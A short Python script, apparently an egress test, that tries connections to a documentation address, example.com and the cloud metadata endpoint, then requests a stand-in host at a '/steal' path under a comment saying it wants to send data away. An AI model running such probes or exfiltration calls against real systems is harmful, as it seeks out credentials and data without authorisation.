# Wants: to send the data away
import socket, urllib.request
for target in ("192.0.2.1", "example.com", "169.254.169.254"):
    try:
        socket.create_connection((target, 80), timeout=2)
    except OSError as error:
        print(target, "->", error)
urllib.request.urlopen("http://192.0.2.1/steal")
